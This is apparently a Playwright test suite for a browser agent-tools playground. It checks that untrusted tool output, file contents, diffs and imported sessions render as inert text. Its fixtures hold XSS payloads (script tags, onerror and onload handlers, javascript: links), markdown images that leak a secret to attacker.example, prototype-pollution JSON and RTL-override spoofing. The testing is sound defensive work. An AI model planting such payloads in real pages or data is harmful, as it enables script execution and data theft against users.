/**
 * Fault rows 66-74 (rendering, tests/faults/README.md): untrusted text (tool output, file contents, spec descriptions, diffs,
 * JSON, control directives, imported sessions) is rendered as text. Each test proves that no script
 * runs (no dialog, no flag set by a payload), that no element or inline handler was created from the
 * payload, and that no request left localhost.
 */
import { expect, type Page, test } from '@playwright/test';
import { openPlayground, outputText, outsideRequests, runInComposer, usePlainEditor } from './playground.ts';

interface Guard {
  dialogs: string[];
  outside: string[];
}

function guard(page: Page): Guard {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return { dialogs, outside: outsideRequests(page) };
}

/** Nothing ran, nothing was created from a payload, nothing left the machine. */
async function expectInert(page: Page, watched: Guard): Promise<void> {
  const found = await page.evaluate(() => ({
    pwned: (window as unknown as Record<string, unknown>).__pwned ?? null,
    polluted: (Object.prototype as Record<string, unknown>).polluted ?? null,
    handlers: [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes]
        .filter((attribute) => /^on/i.test(attribute.name))
        .map((attribute) => `${element.tagName}[${attribute.name}]`),
    ),
    injected: [
      ...document.querySelectorAll(
        // The page's own link to docs/mcp.md (the MCP panel's stdio note) aside.
        'main img, main script, main iframe, main svg, main object, main embed, main a[href]:not([data-testid="mcp-stdio-docs"]), main b, main foreignObject',
      ),
    ].map((element) => element.outerHTML.slice(0, 80)),
  }));
  expect(found).toEqual({ pwned: null, polluted: null, handlers: [], injected: [] });
  expect(watched.dialogs).toEqual([]);
  expect(watched.outside).toEqual([]);
}

/** A session file holding results with `results` (JSON text of each result object). */
function sessionFile(results: string[]): Buffer {
  const calls = results.map(
    (result) =>
      `{"request":{"kind":"named","name":"evil_tool","args":{},"caller":"model"},"parsed":null,"result":${result},"invocation":null,"activated":[],"declarationsBefore":[],"declarationsAfter":[],"startedAt":0}`,
  );
  return Buffer.from(
    `{"format":"browser-agent-tools/playground-session","version":1,"exported_at":"2026-11-30T00:00:00.000Z","scenario":{"version":1},"calls":[${calls.join(',')}]}`,
  );
}

const SCRIPTS =
  '<script>window.__pwned=1</script>\n<img src=x onerror="window.__pwned=2">\n</pre><b>bold</b>\n';

test('row 66: <script>, <img onerror> and </pre> in tool output and file contents are shown as text', async ({
  page,
}) => {
  const watched = guard(page);
  await openPlayground(page);
  await usePlainEditor(page);
  await runInComposer(page, 'write', { path: 'evil.html', content: SCRIPTS });
  await runInComposer(page, 'read', { path: 'evil.html' });
  await expect(outputText(page)).toContainText('<script>window.__pwned=1</script>');
  await expect(outputText(page)).toContainText('<img src=x onerror="window.__pwned=2">');
  await expect(page.getByTestId('channel-structured')).toContainText('</pre><b>bold</b>');
  await page.getByTestId('workspace-tree').getByRole('button', { name: 'evil.html' }).click();
  await expect(page.getByTestId('file-content')).toContainText('<img src=x onerror="window.__pwned=2">');
  await expect(page.getByTestId('history-entry').first()).toContainText('evil.html');
  await expectInert(page, watched);
});

test('row 67: ANSI output whose text contains HTML is shown as text, escape codes visible', async ({
  page,
}) => {
  const watched = guard(page);
  await openPlayground(page);
  // The bash tool strips terminal codes for the model; the HTML in between stays text.
  await page.evaluate(() =>
    window.playground.execute('bash', {
      command: "printf '\\033[31m<b onmouseover=alert(1)>red</b>\\033[0m\\n'",
    }),
  );
  await expect(outputText(page)).toContainText('<b onmouseover=alert(1)>red</b>');
  // Output that still carries the codes (here from an imported session) shows them visibly.
  await page.getByTestId('import-session').setInputFiles({
    name: 'ansi.json',
    mimeType: 'application/json',
    buffer: sessionFile([
      '{"output":"\\u001b[31m<b onmouseover=alert(1)>red</b>\\u001b[0m <i>\\u001b]8;;https://attacker.example\\u0007link\\u001b]8;;\\u0007</i>","structured_output":{},"details":{"duration_ms":1},"is_error":false}',
    ]),
  });
  await expect(outputText(page)).toContainText(
    '␛[31m<b onmouseover=alert(1)>red</b>␛[0m <i>␛]8;;https://attacker.example␇link␛]8;;␇</i>',
  );
  await expect(outputText(page).getByTestId('invisible-character')).toHaveCount(6);
  await expectInert(page, watched);
});

test('row 68: a diff whose lines, file names and @@ header contain HTML is shown as text', async ({
  page,
}) => {
  const watched = guard(page);
  await openPlayground(page);
  await page.evaluate(async () => {
    await window.playground.execute('write', { path: '<img src=x onerror=alert(1)>.txt', content: 'safe\n' });
    await window.playground.execute('edit', {
      path: '<img src=x onerror=alert(1)>.txt',
      oldText: 'safe',
      newText: '<script>window.__pwned=3</script><img src=x onerror="window.__pwned=4">',
    });
  });
  const diff = page.getByTestId('diff');
  await expect(diff.locator('tr[data-kind="added"]')).toContainText('<script>window.__pwned=3</script>');
  await expect(diff.locator('tr[data-kind="old-file"], tr[data-kind="new-file"]').first()).toContainText(
    '<img src=x onerror=alert(1)>.txt',
  );

  const patch =
    '--- a/<b>old</b>.txt\\n+++ b/<svg onload=alert(1)>.txt\\n@@ -1 +1 @@ <img src=x onerror=\\"window.__pwned=5\\">\\n-<i>before</i>\\n+<script>alert(1)</script>\\n';
  await page.getByTestId('import-session').setInputFiles({
    name: 'diff.json',
    mimeType: 'application/json',
    buffer: sessionFile([
      `{"output":"ok","structured_output":{},"details":{"duration_ms":1,"diff":"${patch}"},"is_error":false}`,
    ]),
  });
  await expect(page.getByTestId('history-entry')).toHaveCount(1);
  await expect(diff.locator('tr[data-kind="hunk"]')).toHaveText(
    /@@ -1 \+1 @@ <img src=x onerror="window.__pwned=5">/,
  );
  await expect(diff.locator('tr[data-kind="new-file"]')).toContainText('+++ b/<svg onload=alert(1)>.txt');
  await expect(diff.locator('tr[data-kind="added"]').getByTestId('diff-text')).toHaveText(
    '<script>alert(1)</script>',
  );
  await expectInert(page, watched);
});

test('rows 69 and 70: markdown links and external images stay inert text; no request is made', async ({
  page,
}) => {
  const watched = guard(page);
  await openPlayground(page);
  const markdown =
    '[one](javascript:alert(1)) [two](//evil.example/x) [three](data:text/html,<script>alert(1)</script>)\n' +
    '![tracker](https://attacker.example/p.png?leak=secret) <img src="https://attacker.example/i.png">';
  await page.evaluate(async (text) => {
    await window.playground.register(
      {
        name: 'md_tool',
        description: text,
        parameters: { type: 'object', properties: { text: { type: 'string' } } },
      },
      'direct',
    );
    await window.playground.execute('write', { path: 'README.md', content: text });
    await window.playground.execute('md_tool', { text });
  }, markdown);
  await expect(outputText(page)).toContainText('[one](javascript:alert(1))');
  await expect(outputText(page)).toContainText('![tracker](https://attacker.example/p.png?leak=secret)');
  await expect(page.getByTestId('declarations')).toContainText('[two](//evil.example/x)');
  await expect(page.getByTestId('catalog').locator('[data-tool="md_tool"]')).toContainText(
    '[three](data:text/html,<script>alert(1)</script>)',
  );
  await page.getByTestId('workspace-tree').getByRole('button', { name: 'README.md' }).click();
  await expect(page.getByTestId('file-content')).toContainText('<img src="https://attacker.example/i.png">');
  await page.waitForTimeout(300);
  await expectInert(page, watched);
});

test('rows 71 and 72: SVG and HTML documents are shown as text, never inline or in a frame', async ({
  page,
}) => {
  const watched = guard(page);
  await openPlayground(page);
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=6"><script>window.__pwned=7</script>' +
    '<foreignObject><iframe src="https://attacker.example/"></iframe></foreignObject></svg>';
  const html =
    '<!doctype html><html><body onload="window.__pwned=8"><h1>Preview me</h1><script>alert(1)</script></body></html>';
  await page.evaluate(
    async ({ svg, html }) => {
      await window.playground.execute('write', { path: 'logo.svg', content: svg });
      await window.playground.execute('write', { path: 'preview.html', content: html });
      await window.playground.execute('read', { path: 'logo.svg' });
    },
    { svg, html },
  );
  await expect(outputText(page)).toContainText(
    '<foreignObject><iframe src="https://attacker.example/"></iframe></foreignObject>',
  );
  const tree = page.getByTestId('workspace-tree');
  await tree.getByRole('button', { name: 'logo.svg' }).click();
  await expect(page.getByTestId('file-content')).toContainText('onload="window.__pwned=6"');
  await tree.getByRole('button', { name: 'preview.html' }).click();
  await expect(page.getByTestId('file-content')).toContainText('<h1>Preview me</h1>');
  await expect(page.locator('iframe, svg, object, embed')).toHaveCount(0);
  await expectInert(page, watched);
});

test('row 73: __proto__ and constructor keys pollute nothing; a 10,000-level nesting stays responsive', async ({
  page,
}) => {
  const watched = guard(page);
  await openPlayground(page);
  await usePlainEditor(page);
  await page.evaluate(() =>
    window.playground.register(
      { name: 'echo_json', description: 'Echo.', parameters: { type: 'object' } },
      'direct',
    ),
  );
  await runInComposer(
    page,
    'echo_json',
    '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}',
  );
  await expect(page.getByTestId('channel-structured')).toContainText('__proto__');

  const deep = `${'{"a":'.repeat(10_000)}"bottom"${'}'.repeat(10_000)}`;
  await page.getByTestId('import-session').setInputFiles({
    name: 'json.json',
    mimeType: 'application/json',
    buffer: sessionFile([
      '{"output":"keys","structured_output":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}},"details":{"duration_ms":1},"is_error":false}',
      `{"output":"deep","structured_output":{"deep":${deep}},"details":{"duration_ms":1},"is_error":false}`,
    ]),
  });
  const entries = page.getByTestId('history-entry');
  await expect(entries).toHaveCount(2);
  const structured = page.getByTestId('channel-structured');
  await expect(structured).toContainText('nesting depth 10,001');
  const started = Date.now();
  expect(await page.evaluate(() => 1 + 1)).toBe(2);
  expect(Date.now() - started).toBeLessThan(1000);
  expect(await structured.locator('li').count()).toBeLessThan(100);

  await entries.nth(1).getByRole('button').click();
  await expect(structured.getByTestId('json-key').filter({ hasText: /^__proto__$/ })).toHaveCount(1);
  await expect(structured.getByTestId('json-key').filter({ hasText: /^constructor$/ })).toHaveCount(1);
  await expectInert(page, watched);
});

test('row 74: NUL, lone surrogates, RTL override and terminal control characters are shown visibly', async ({
  page,
}) => {
  const watched = guard(page);
  await openPlayground(page, '/', { exactTokens: true });
  await page.getByTestId('import-session').setInputFiles({
    name: 'controls.json',
    mimeType: 'application/json',
    buffer: sessionFile([
      '{"output":"nul:\\u0000 rtl:\\u202Egnp.exe\\u202C lone:\\ud800 esc:\\u001b[2J bell:\\u0007 zw:\\u200B end","structured_output":{"k\\u202Eey":"v\\u0000"},"details":{"duration_ms":1},"is_error":false}',
    ]),
  });
  const output = outputText(page);
  await expect(output).toContainText(
    'nul:␀ rtl:⟨U+202E⟩gnp.exe⟨U+202C⟩ lone:⟨U+D800⟩ esc:␛[2J bell:␇ zw:⟨U+200B⟩ end',
  );
  await expect(page.getByTestId('channel-structured')).toContainText('k⟨U+202E⟩ey');
  await expect(page.getByTestId('output-tokens')).toHaveText(/^\d+ tokens$/);

  // Storable: the session exports again, the characters escaped in JSON.
  const download = page.waitForEvent('download');
  await page.getByTestId('export-session').click();
  await (await download).path();

  // The same characters written through a real tool come back visible too.
  await page.evaluate(() =>
    window.playground.execute('write', { path: 'ctrl.txt', content: 'b \u202Eevil\u202C \u001b[1m \u200B' }),
  );
  await page.evaluate(() => window.playground.execute('read', { path: 'ctrl.txt' }));
  await expect(output).toContainText('b ⟨U+202E⟩evil⟨U+202C⟩ ');
  await expect(output).toContainText(' ⟨U+200B⟩');
  await expectInert(page, watched);
});
